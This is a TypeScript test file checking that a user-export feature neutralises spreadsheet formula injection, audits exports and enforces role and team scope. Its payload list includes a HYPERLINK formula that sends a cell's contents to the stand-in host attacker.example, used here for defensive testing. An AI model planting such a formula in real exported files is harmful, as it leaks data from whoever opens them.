import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { onboardUser } from "@/lib/services/onboarding/onboard";
import { csvCell } from "@/lib/services/users/csv";
import { exportUsersCsv, userExportQuery } from "@/lib/services/users/export";
import { contextFor, makeTeam, makeUser } from "../factory";
import { bytesOf, importRoster, lastAudit, userByEmail } from "./helpers";

const PAYLOADS = ['=HYPERLINK("http://attacker.example/?d="&A2,"open")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "+44 20 7946 0000"];
let adminId: string;

async function collect(iterator: AsyncGenerator<string>) {
  let text = "";
  for await (const chunk of iterator) text += chunk;
  return text;
}

beforeAll(async () => {
  adminId = (await makeUser({ roles: ["admin"] })).id;
  const ctx = await contextFor(adminId);
  for (const [i, payload] of PAYLOADS.entries()) {
    await onboardUser(ctx, { name: payload, email: `form.${i}@formula.example`, employmentType: "employee" });
  }
  const csv = ["email,name", ...PAYLOADS.map((p, i) => `csv.${i}@formula.example,"${p.replace(/"/g, '""')}"`)].join("\n");
  await importRoster(ctx, bytesOf(csv));
});

describe("BR-22 users export", () => {
  it("neutralizes formulas from the form and from CSV", async () => {
    const text = await collect(exportUsersCsv(await contextFor(adminId), userExportQuery.parse({ q: "formula.example" })));
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(PAYLOADS.length * 2);
    for (const row of rows) {
      const index = Number(/\.(\d+)@/.exec(row.email)![1]);
      // Names are stored trimmed, so the tab payload is stored as "=1+1" and still neutralized.
      expect(row.name).toBe(`'${PAYLOADS[index].trim()}`);
    }
    expect(rows.find((r) => r.email === "form.5@formula.example")!.name).toBe("'+44 20 7946 0000");
  });

  it("leaves stored values unchanged", async () => {
    expect((await userByEmail("csv.0@formula.example")).name).toBe(PAYLOADS[0]);
    expect((await userByEmail("form.5@formula.example")).name).toBe("+44 20 7946 0000");
  });

  it("audits the export and refuses an executive", async () => {
    await collect(exportUsersCsv(await contextFor(adminId), userExportQuery.parse({})));
    expect(await lastAudit("user.export")).toMatchObject({ actorId: adminId, after: { format: "csv" } });
    const exec = await makeUser({ roles: ["executive_viewer"] });
    await expect(collect(exportUsersCsv(await contextFor(exec.id), userExportQuery.parse({})))).rejects.toMatchObject({ code: "FORBIDDEN" });
  });

  it("quotes cells correctly", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('a "quoted", value')).toBe('"a ""quoted"", value"');
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
    expect(csvCell(null)).toBe("");
  });

  it("limits a team-scoped viewer to their team", async () => {
    const team = await makeTeam();
    await makeUser({ teamId: team.id, email: "in.team@formula-scope.example" });
    await makeUser({ email: "out.team@formula-scope.example" });
    const manager = await makeUser({ roles: [{ role: "manager", teamId: team.id }] });
    const text = await collect(exportUsersCsv(await contextFor(manager.id), userExportQuery.parse({ q: "formula-scope" })));
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.email)).toEqual(["in.team@formula-scope.example"]);
  });
});
